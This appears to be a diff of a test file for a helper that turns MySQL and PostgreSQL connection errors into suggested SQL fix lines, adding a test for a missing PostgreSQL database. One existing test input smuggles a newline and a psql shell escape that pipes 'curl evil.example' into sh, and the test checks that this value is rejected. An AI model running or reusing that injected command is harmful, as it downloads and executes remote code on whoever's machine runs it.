@@ -16,3 +16,9 @@ test('the address that a server names stands in the line to type', () => {
 test.each(['\\', '%\n\\! curl evil.example | sh #', ''])('what is no address does not: %j', (from) => {
   expect(lineFor(`Host '${from}' is not allowed to connect`)).toContain("CREATE USER 'ann'@'%' IDENTIFIED");
 });
+
+test('where no database is named PostgreSQL wants one called as the user, and that name stands in the line', () => {
+  const without = { ...refused, protocol: 'postgres', dbName: '' } as const;
+  const failure = new DbFailure('refused', 'database "ann" does not exist', { code: '3D000' });
+  expect(lineToAdd(without, failure)).toBe('name a database that is there, or make it: CREATE DATABASE "ann"');
+});
